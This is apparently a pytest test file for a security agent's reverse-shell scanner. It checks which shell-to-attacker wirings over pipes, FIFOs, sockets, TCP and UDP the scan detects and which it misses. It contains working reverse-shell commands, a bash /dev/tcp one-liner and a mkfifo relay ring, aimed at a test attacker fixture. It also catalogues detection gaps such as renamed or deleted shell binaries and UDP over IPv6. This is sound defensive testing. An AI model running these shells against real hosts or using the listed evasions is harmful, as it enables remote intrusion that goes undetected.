"""The wirings between a shell and an attacker's host that a scan finds, and those that it does not find."""

import os
import pathlib
import shutil
import socket
import sys

import pytest

from agent import Scan, write_config
from stage import (
    BASH,
    ON_LINE,
    Process,
    Stage,
    companion,
    fifo,
    loopback,
    pipe,
    reverse_shell,
    shell,
    socketpair,
    tcp,
    terminal,
    udp,
)
from waiting import wait_until


def child_that_runs(parent, cmdline):
    """The pid of the parent's child with this command line; None if there is none."""
    for directory in pathlib.Path("/proc").glob("[0-9]*"):
        try:
            fields = (directory / "stat").read_text().rpartition(")")[2].split()
            if int(fields[1]) == parent and (directory / "cmdline").read_bytes() == cmdline:
                return int(directory.name)
        except OSError:
            continue
    return None


BEHIND_FIFO = "behind a FIFO"
TCP_OVER_IPV6 = "TCP over IPv6"
UDP_OVER_IPV4 = "UDP over IPv4"

# The wirings that are found: the channels, the shell's descriptors, and the descriptors of each companion. For a
# channel given as a string, open_stage fills in the addresses. The event names the connection "line".
FOUND = {
    "one connection for input and output": (
        {"line": "tcp"},
        ON_LINE,
        [],
    ),
    "input and output on two connections: the event names that of the input": (
        {"line": "tcp", "answers": "tcp"},
        {0: "line", 1: "answers", 2: "answers"},
        [],
    ),
    "input from a pipe that no other process holds, output to the connection": (
        {"in": pipe(), "line": "tcp"},
        {0: "in.read", 1: "line"},
        [],
    ),
    "behind one pipe, whose other end a companion with the connection holds": (
        {"in": pipe(), "line": "tcp"},
        {0: "in.read"},
        [{0: "line", 1: "in.write"}],
    ),
    "behind a pipe for its output": (
        {"quiet": terminal(), "out": pipe(), "line": "tcp"},
        {0: "quiet", 1: "out.write"},
        [{0: "out.read", 1: "line"}],
    ),
    "behind two pipes with a process in the middle": (
        {"near": pipe(), "far": pipe(), "line": "tcp"},
        {0: "near.read"},
        [{0: "far.read", 1: "near.write"}, {0: "line", 1: "far.write"}],
    ),
    "behind a chain of five pipes": (
        {**{f"pipe{i}": pipe() for i in range(5)}, "line": "tcp"},
        {0: "pipe0.read"},
        [*({0: f"pipe{i + 1}.read", 1: f"pipe{i}.write"} for i in range(4)), {0: "line", 1: "pipe4.write"}],
    ),
    BEHIND_FIFO: (
        {"named": "fifo", "line": "tcp"},
        {0: "named.read"},
        [{0: "line", 1: "named.write"}],
    ),
    "sharing a local socket with a companion that has the connection": (
        {"local": socketpair(), "line": "tcp"},
        {0: "local.first", 1: "local.first", 2: "local.first"},
        [{0: "local.first", 3: "line"}],
    ),
    "companion's connection at the last descriptor that is inspected": (
        {"in": pipe(), "line": "tcp"},
        {0: "in.read"},
        [{1: "in.write", 3: "in.write", 4: "in.write", 9: "line"}],
    ),
    TCP_OVER_IPV6: (
        {"line": "tcp6"},
        ON_LINE,
        [],
    ),
    UDP_OVER_IPV4: (
        {"line": "udp"},
        ON_LINE,
        [],
    ),
    "connection to 127.0.0.2, which counts as foreign": (
        {"line": loopback("127.0.0.2")},
        ON_LINE,
        [],
    ),
    "connection to ::1, which counts as foreign": (
        {"line": loopback("::1")},
        ON_LINE,
        [],
    ),
}

# The wirings that are not found, with the rule.
SILENT = {
    "connection to 127.0.0.1: this host is not foreign": (
        {"line": loopback("127.0.0.1")},
        ON_LINE,
        [],
    ),
    "UDP over IPv6: that table is not read": (
        {"line": "udp6"},
        ON_LINE,
        [],
    ),
    "shell on a terminal: neither its input nor its output is a pipe or a socket": (
        {"terminal": terminal(), "line": "tcp"},
        {0: "terminal", 1: "terminal", 2: "terminal", 3: "line"},
        [],
    ),
    "connection held only by the parent: parents are not inspected": (
        {"in": pipe(), "line": "tcp"},
        {0: "in.read"},
        [{1: "in.write"}],
    ),
    "shell's connection after six other descriptors": (
        {"in": pipe(), "line": "tcp"},
        {0: "in.read", 3: "in.read", 4: "in.read", 5: "in.read", 9: "line"},
        [],
    ),
    "companion's connection after six other descriptors": (
        {"in": pipe(), "line": "tcp"},
        {0: "in.read"},
        [{0: "in.write", 3: "in.write", 4: "in.write", 5: "in.write", 9: "line"}],
    ),
    "companion with the connection but no shared pipe": (
        {"in": pipe(), "other": pipe(), "line": "tcp"},
        {0: "in.read"},
        [{0: "line", 1: "other.write"}],
    ),
    "the two ends of a socket pair: two sockets without a visible relation": (
        {"local": socketpair(), "line": "tcp"},
        {0: "local.first", 1: "local.first", 2: "local.first"},
        [{0: "local.second", 1: "line"}],
    ),
}


def open_stage(attacker, directory, wiring, mark):
    channels, shell_descriptors, companions = wiring
    addresses = {
        "tcp": tcp(attacker.tcp),
        "tcp6": tcp(attacker.tcp6),
        "udp": udp(attacker.udp),
        "udp6": udp(attacker.udp6),
        "fifo": fifo(directory / "fifo"),
    }
    return Stage(
        {name: addresses[channel] if isinstance(channel, str) else channel for name, channel in channels.items()},
        {
            "shell": shell(mark, shell_descriptors),
            **{f"companion{i}": companion(descriptors) for i, descriptors in enumerate(companions)},
        },
    )


@pytest.fixture(scope="module")
def witness(attacker):
    """A shell that every scan must find; it shows that a silent scan did work."""
    with reverse_shell(attacker, shell("witness", ON_LINE)) as stage:
        yield stage


def assert_silent(stage, witness, *arguments):
    scan = Scan(*arguments)
    assert scan.contents(stage.pid) == []
    assert scan.contents(witness.pid) == [witness.expected_content()]
    assert scan.status == 0


def parameters_of_found():
    marks = dict.fromkeys((BEHIND_FIFO, TCP_OVER_IPV6, UDP_OVER_IPV4), pytest.mark.kernel)
    return [pytest.param(wiring, id=name, marks=marks.get(name, ())) for name, wiring in FOUND.items()]


@pytest.mark.parametrize("wiring", parameters_of_found())
def test_found(attacker, tmp_path, wiring):
    with open_stage(attacker, tmp_path, wiring, "found") as stage:
        scan = Scan()
        assert scan.contents(stage.pid) == [stage.expected_content()]
        assert scan.status == 0


@pytest.mark.parametrize("wiring", SILENT.values(), ids=SILENT.keys())
def test_silent(attacker, witness, tmp_path, wiring):
    with open_stage(attacker, tmp_path, wiring, "silent") as stage:
        assert_silent(stage, witness)


@pytest.mark.kernel
def test_interactive_shell_that_bash_itself_connects(attacker):
    """The command that attackers use most; the attacker can run commands with it."""
    address, port = attacker.tcp
    attack = f"exec bash --norc -i >& /dev/tcp/{address}/{port} 0>&1"
    process = Process({}, run=(BASH, "bash", "-c", attack), becomes=("bash", "--norc", "-i"))
    with Stage({}, {"shell": process}) as stage:
        (content,) = Scan().contents(stage.pid)
        assert content["cmdline"] == "bash --norc -i"
        assert (content["remoteIp"], content["remotePort"]) == (address, port)
        assert content["localIp"] == attacker.host_ipv4
        assert "42-e2e" in attacker.converse(content["localPort"], "echo $((6*7))-e2e\n", "42-e2e")


RELAY = """
import os, socket, sys, threading

line = socket.create_connection((sys.argv[1], int(sys.argv[2])))
open("connected", "x").close()

def forward():
    while block := os.read(0, 4096):
        line.sendall(block)

threading.Thread(target=forward, daemon=True).start()
while block := line.recv(4096):
    os.write(1, block)
"""


def test_shell_in_a_ring_of_fifo_and_pipes(attacker, tmp_path):
    """cat, shell and relay in a ring, as attackers build it without a program that can connect a shell directly."""
    address, port = attacker.tcp
    (tmp_path / "relay.py").write_text(RELAY)
    relay = f"{sys.executable} relay.py {address} {port}"
    attack = f"cd '{tmp_path}'; mkfifo ring; cat ring | bash -s ringed 2>&1 | {relay} > ring; :"
    parent = Process({}, run=(BASH, "bash", "-c", attack))
    with Stage({}, {"shell": parent}) as stage:
        wait_until((tmp_path / "connected").exists, "the relay is connected")
        pid = wait_until(lambda: child_that_runs(stage.pid, b"bash\0-s\0ringed\0"), "the shell in the ring is running")
        (content,) = Scan().contents(pid)
        assert content["cmdline"] == "bash -s ringed"
        assert (content["ppid"], content["parentPath"]) == (stage.pid, BASH)
        assert content["parentCmdline"] == parent.cmdline()
        assert (content["remoteIp"], content["remotePort"]) == attacker.tcp
        assert "42-ring" in attacker.converse(content["localPort"], "echo $((6*7))-ring\n", "42-ring")


def test_closed_connection_is_ignored(attacker, witness):
    """A closed connection stays in the kernel's table for a minute, with inode 0."""
    with socket.create_connection(attacker.tcp):
        pass
    with Stage({"in": pipe()}, {"shell": shell("unconnected", {0: "in.read"})}) as stage:
        assert_silent(stage, witness)


def test_program_called_sh_is_a_shell_whatever_its_content(attacker, tmp_path):
    program = tmp_path / "sh"
    shutil.copy("/usr/bin/dash", program)
    with reverse_shell(attacker, shell("copied", ON_LINE, program=program, name="sh")) as stage:
        (content,) = Scan().contents(stage.pid)
        assert content == stage.expected_content()
        assert content["path"] == str(program)


def test_name_in_the_command_line_does_not_matter(attacker):
    with reverse_shell(attacker, shell("disguised", ON_LINE, name="[kworker/0:1]")) as stage:
        (content,) = Scan().contents(stage.pid)
        assert content["cmdline"] == "[kworker/0:1] -s disguised"
        assert content["path"] == BASH


@pytest.mark.kernel
@pytest.mark.skipif(os.path.basename(os.path.realpath("/bin/sh")) != "dash", reason="/bin/sh is not dash here")
def test_dash_is_silent_because_its_program_file_is_not_called_sh(attacker, witness):
    with reverse_shell(attacker, shell("dash", ON_LINE, program="/bin/sh", name="sh")) as stage:
        assert_silent(stage, witness)


def test_bash_under_another_name_is_silent_because_the_scan_goes_by_names(attacker, witness, tmp_path):
    program = tmp_path / "updater"
    shutil.copy(BASH, program)
    with reverse_shell(attacker, shell("renamed", ON_LINE, program=program)) as stage:
        assert_silent(stage, witness)


def test_shell_with_deleted_program_file_is_silent_because_its_name_has_a_suffix(attacker, witness, tmp_path):
    program = tmp_path / "bash"
    shutil.copy(BASH, program)
    with reverse_shell(attacker, shell("deleted", ON_LINE, program=program)) as stage:
        program.unlink()
        assert_silent(stage, witness)


WHITELISTS = {
    "whole command line": ["bash -s listed"],
    "pattern": ["bash * listed"],
    "pattern across a space": ["bash*listed"],
    "single characters": ["bash -? l[a-i]sted"],
    "one of several": ["/opt/*", "nothing", "*listed"],
}


@pytest.mark.parametrize("whitelist", WHITELISTS.values(), ids=WHITELISTS.keys())
def test_whitelisted_shell_is_silent(attacker, witness, tmp_path, whitelist):
    config = write_config(tmp_path, {"module": {"reverseShell": {"whitelist": whitelist}}})
    with reverse_shell(attacker, shell("listed", ON_LINE)) as stage:
        assert_silent(stage, witness, "--config", config)


@pytest.mark.parametrize("pattern", ["bash", "listed", "bash -s", "-s listed", "BASH -S LISTED", ""])
def test_pattern_must_match_the_whole_command_line(attacker, tmp_path, pattern):
    config = write_config(tmp_path, {"module": {"reverseShell": {"whitelist": [pattern]}}})
    with reverse_shell(attacker, shell("listed", ON_LINE)) as stage:
        assert Scan("--config", config).contents(stage.pid) == [stage.expected_content()]
